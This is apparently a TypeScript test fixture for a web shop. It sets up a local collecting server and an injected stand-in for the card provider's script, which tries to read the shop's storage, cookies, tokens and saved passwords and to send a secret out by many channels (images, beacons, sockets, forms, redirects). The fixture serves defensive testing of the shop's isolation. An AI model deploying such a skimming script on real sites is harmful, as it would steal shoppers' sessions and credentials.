import { createServer } from "node:http";
import type { AddressInfo } from "node:net";

/**
 * A server that collects the data that a hostile script sends. No browser's policy blocks WebRTC (docs/security.md).
 */
export type Thief = { origin: string; got: string[]; close: () => Promise<void> };

export async function openThief(): Promise<Thief> {
  const got: string[] = [];
  const server = createServer((request, response) => {
    got.push(`${request.method} ${request.url}`);
    response.setHeader("access-control-allow-origin", "*").end();
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  return {
    origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    got,
    close: async () => {
      server.closeAllConnections();
      await new Promise((resolve) => server.close(resolve));
    },
  };
}

type Places = { shop: string; thief: string };

/**
 * A hostile script in place of the card provider's. It reads and sends everything that it can, and puts the results
 * into `window.loot`, by the name of the attempt. It is sent as text, so it can use nothing of its module.
 */
export function steal({ shop, thief }: Places): void {
  const loot: Record<string, unknown> = {};
  const secret = "what-was-stolen";
  const moment = (milliseconds: number) => new Promise((resolve) => setTimeout(resolve, milliseconds));
  const element = (name: string, properties: object) => {
    const made = Object.assign(document.createElement(name), properties);
    document.body.append(made);
    return made;
  };
  const around: Window & { localStorage?: Storage } = window.parent;
  const form = (action: string, target: string) => {
    const made = document.createElement("form");
    Object.assign(made, { action, target, method: "post" });
    document.body.append(made);
    made.submit();
  };
  const device: Record<string, unknown> = Object(navigator);
  const asked = async (name: string, method: string, ...given: unknown[]) => Object(device[name])[method](...given);
  const renewal = new URLSearchParams({ grant_type: "refresh_token" });

  const tries: Record<string, () => unknown> = {
    "the shop's local storage": () => JSON.stringify({ ...around.localStorage }),
    "the shop's session storage": () => JSON.stringify({ ...around.sessionStorage }),
    "the shop's page": () => around.document.body.innerHTML,
    "the shop's address": () => around.location.href,
    "what is stored here": () => [...Object.keys(localStorage), ...Object.keys(sessionStorage)].join(),
    cookies: () => document.cookie,
    "cookies by their store": async () => (await Object(window).cookieStore?.getAll())?.length || "",
    databases: async () => (await indexedDB.databases()).length || "",
    "the shop's profile": () => fetch(`${shop}/api/clients/profile`, { credentials: "include" }),
    "the shop's page by request": () => fetch(`${shop}/`, { credentials: "include" }),
    "the shop's session": () => fetch(`${shop}/token`, { method: "POST", body: renewal, credentials: "include" }),
    "the shop's session, unread": () =>
      fetch(`${shop}/token`, { method: "POST", body: renewal, credentials: "include", mode: "no-cors" }),
    "the shop's log-off": () =>
      fetch(`${shop}/api/clients/logOff`, { method: "POST", credentials: "include", mode: "no-cors" }),
    "a request to a stranger": () => fetch(`${thief}/fetch?${secret}`, { mode: "no-cors" }),
    "another program": () => import(`${thief}/import?${secret}`),
    "a worker": () =>
      new Promise((resolve, reject) => {
        const worker = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"])));
        worker.onmessage = resolve;
        worker.onerror = reject;
      }),
    "a worker that stays": () => navigator.serviceWorker.register("/card-fields.js"),
    "a window": () => window.open(`${thief}/window?${secret}`),
    "a question": () => window.confirm("Your password?"),
    "where the visitor is": () =>
      new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, reject)),
    "the clipboard": () => asked("clipboard", "readText"),
    "the camera": () => asked("mediaDevices", "getUserMedia", { video: true }),
    "kept passwords": () => asked("credentials", "get", { password: true }),
  };
  const sent: Record<string, () => unknown> = {
    picture: () => element("img", { src: `${thief}/picture?${secret}` }),
    script: () => element("script", { src: `${thief}/script?${secret}` }),
    style: () => element("link", { rel: "stylesheet", href: `${thief}/style?${secret}` }),
    prefetch: () => element("link", { rel: "prefetch", href: `${thief}/prefetch?${secret}` }),
    background: () => document.body.style.setProperty("background", `url(${thief}/background?${secret})`),
    frame: () => element("iframe", { src: `${thief}/frame?${secret}` }),
    object: () => element("object", { data: `${thief}/object?${secret}` }),
    video: () => element("video", { src: `${thief}/video?${secret}` }),
    beacon: () => navigator.sendBeacon(`${thief}/beacon`, secret),
    socket: () => new WebSocket(`${thief.replace("http", "ws")}/socket?${secret}`),
    events: () => new EventSource(`${thief}/events?${secret}`),
    form: () => form(`${thief}/form?${secret}`, "_blank"),
    "form to the top": () => form(`${shop}/token`, "_top"),
    top: () => Object.assign(Object(window.top).location, { href: `${thief}/top?${secret}` }),
    message: () => {
      for (const word of [
        { type: "ready", height: 1e9 },
        { type: "open", url: thief },
        { type: "token", token: {} },
      ])
        around.postMessage(word, "*");
    },
  };

  void (async () => {
    await moment(0);
    for (const [name, attempt] of Object.entries(tries)) {
      try {
        const got = await Promise.race([attempt(), moment(2_000)]);
        if (got) loot[name] = String(got);
      } catch {
        // The browser has refused it.
      }
    }
    for (const attempt of Object.values(sent)) {
      try {
        await attempt();
      } catch {
        // The collecting server records what arrives.
      }
    }
    await moment(1_000);
    Object.assign(window, { loot });
  })();
}
